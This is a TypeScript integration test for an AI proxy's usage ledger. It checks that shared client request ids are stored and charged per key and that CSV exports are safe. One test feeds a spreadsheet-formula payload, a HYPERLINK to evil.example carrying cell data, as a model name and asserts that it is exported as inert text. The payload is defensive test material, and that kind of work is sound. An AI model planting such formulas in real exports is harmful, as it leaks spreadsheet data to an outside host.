import { type MockUpstream, startMockUpstream } from "@ai-router/testing";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertRecords } from "../../health-worker/src/ledger/insert-records.js";
import { ADMIN_TOKEN, startTestCluster, type TestCluster, usageRecord, waitFor } from "./helpers.js";

/**
 * Issue 27, findings 3 and 8, end to end on real processes (proxy -> JetStream -> writer -> Postgres ->
 * admin API): the ledger's record id is the proxy's own, so two keys sending one `x-request-id` are
 * both stored and charged; the client's id is kept in `client_request_id`; the CSV never carries a
 * live formula.
 */
let cluster: TestCluster;
let up: MockUpstream;
let db: pg.Pool;
const keys: Record<"a" | "b", { id: number; key: string }> = {} as never;
const auth = { authorization: `Bearer ${ADMIN_TOKEN}` };
const PRICE = { input_per_mtok: 1000, output_per_mtok: 2000 };

beforeAll(async () => {
  up = await startMockUpstream();
  cluster = await startTestCluster("client_reqid", 1, {}, { worker: true });
  const p = await cluster.admin("POST", "/v1/db/providers", {
    name: "p",
    adapter: "openai-compatible",
    base_url: up.baseUrl,
    api_key: "sk-p-0001",
  });
  expect(p.status).toBe(200);
  const m = await cluster.admin("POST", "/v1/db/models", { name: "m", provider_id: p.body.provider_id, upstream_model: "gpt-4o" });
  expect(m.status).toBe(200);
  await cluster.admin("PUT", `/v1/db/models/${m.body.id}/providers/${p.body.provider_id}`, { price: PRICE });
  for (const n of ["a", "b"] as const) {
    const k = await cluster.admin("POST", "/v1/db/keys", { name: `team-${n}`, budget_usd: 1000 });
    keys[n] = { id: k.body.id as number, key: k.body.key as string };
  }
  db = new pg.Pool({ connectionString: cluster.databaseUrl, max: 2 });
  db.on("error", () => {});
  const proxy = cluster.proxies[0]!.url;
  await waitFor(async () => (await chat(proxy, keys.b.key, "warm-up")).status === 200, 15_000, 100);
  await waitFor(async () => (await db.query("SELECT 1 FROM usage_records")).rowCount === 1, 15_000, 100);
  await db.query("DELETE FROM usage_records");
  await db.query("UPDATE client_keys SET spent_usd = 0");
}, 90_000);

afterAll(async () => {
  await db?.end();
  await cluster?.stop();
  await up?.close();
});

function chat(base: string, key: string, requestId: string | undefined, model = "m") {
  return fetch(`${base}/v1/chat/completions`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${key}`, ...(requestId ? { "x-request-id": requestId } : {}) },
    body: JSON.stringify({ model, messages: [{ role: "user", content: "count my tokens please" }] }),
  });
}

describe("client request ids in the ledger", () => {
  it("two keys sending the same x-request-id: every request of both keys is stored and charged", async () => {
    const proxy = cluster.proxies[0]!.url;
    const shared = "shared-id-0001";
    const costs = { a: 0, b: 0 };
    // Key A first (it "owns" the id), then key B reuses it: before, B's requests never reached the ledger.
    for (const n of ["a", "b", "a", "b", "b", "a", "b"] as const) {
      const r = await chat(proxy, keys[n].key, shared);
      expect(r.status).toBe(200);
      expect(r.headers.get("x-request-id")).toBe(shared);
      const u = ((await r.json()) as { usage: { prompt_tokens: number; completion_tokens: number } }).usage;
      costs[n] += (u.prompt_tokens * PRICE.input_per_mtok + u.completion_tokens * PRICE.output_per_mtok) / 1e6;
    }
    await waitFor(async () => Number((await db.query("SELECT count(*)::int AS n FROM usage_records")).rows[0].n) >= 7, 30_000, 100);
    const rows = (await db.query("SELECT id, client_request_id, key_id, cost_usd FROM usage_records")).rows;
    expect(rows).toHaveLength(7);
    expect(new Set(rows.map((r) => r.id)).size).toBe(7);
    expect(rows.every((r) => r.client_request_id === shared && r.id !== shared)).toBe(true);
    expect(rows.filter((r) => r.key_id === String(keys.a.id))).toHaveLength(3);
    expect(rows.filter((r) => r.key_id === String(keys.b.id))).toHaveLength(4);
    // Each key is charged for all its own requests.
    const spent = (await cluster.admin("GET", "/v1/db/keys")).body.keys as { id: number; spent_usd: number }[];
    expect(spent.find((k) => k.id === keys.a.id)!.spent_usd).toBeCloseTo(costs.a, 9);
    expect(spent.find((k) => k.id === keys.b.id)!.spent_usd).toBeCloseTo(costs.b, 9);

    // The admin API shows the client's id and filters on it (JSON and CSV).
    const list = (await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${shared}`, { headers: auth })).json()) as {
      data: { id: string; client_request_id: string | null }[];
    };
    expect(list.data).toHaveLength(7);
    expect(list.data.every((r) => r.client_request_id === shared)).toBe(true);
    const none = (await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=other`, { headers: auth })).json()) as {
      data: unknown[];
    };
    expect(none.data).toHaveLength(0);
    const tooLong = await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${"x".repeat(200)}`, { headers: auth });
    expect(tooLong.status).toBe(400);
    const csv = await (
      await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${shared}`, { headers: { ...auth, accept: "text/csv" } })
    ).text();
    const [head, ...lines] = csv.trim().split("\r\n");
    expect(head!.split(",").slice(0, 3)).toEqual(["id", "client_request_id", "time"]);
    expect(lines).toHaveLength(7);
    for (const l of lines) expect(l.split(",")[1]).toBe(shared);
  }, 60_000);

  it("a model name that is a formula is stored as sent and exported as text in the CSV", async () => {
    await db.query("DELETE FROM usage_records");
    const proxy = cluster.proxies[0]!.url;
    const model = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    const r = await chat(proxy, keys.a.key, "formula-1", model);
    expect(r.status).toBe(404);
    await waitFor(async () => (await db.query("SELECT 1 FROM usage_records")).rowCount === 1, 30_000, 100);
    const csv = await (
      await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=formula-1`, { headers: { ...auth, accept: "text/csv" } })
    ).text();
    const line = csv.trim().split("\r\n")[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
    expect(line).not.toMatch(/(^|,)=HYPERLINK/);
  }, 60_000);

  it("a record from a proxy release before client_request_id stores with it null", async () => {
    const rec = usageRecord("old-release-1") as Record<string, unknown>;
    delete rec.client_request_id;
    const stored = await insertRecords(db, [rec as never]);
    expect(stored.map((x) => x.id)).toEqual(["old-release-1"]);
    const row = (await db.query("SELECT client_request_id FROM usage_records WHERE id = 'old-release-1'")).rows[0];
    expect(row).toEqual({ client_request_id: null });
  });
});
